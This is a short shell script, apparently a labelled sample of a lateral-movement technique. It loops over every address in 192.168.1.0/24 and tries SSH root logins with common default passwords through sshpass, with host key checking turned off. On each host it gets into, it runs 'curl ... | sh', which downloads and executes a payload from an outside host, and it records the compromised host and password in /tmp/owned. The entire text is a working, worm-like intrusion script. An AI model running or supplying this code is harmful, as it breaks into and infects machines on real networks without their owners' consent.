# class: lateral movement, passwords tried on a network; style: sshpass loop
for i in $(seq 1 254); do
  for p in root toor admin 123456 raspberry; do
    sshpass -p "$p" ssh -o StrictHostKeyChecking=no -o ConnectTimeout=2 root@192.168.1.$i 'curl -s http://203.0.113.5/w | sh' && echo "192.168.1.$i:$p" >> /tmp/owned && break
  done
done
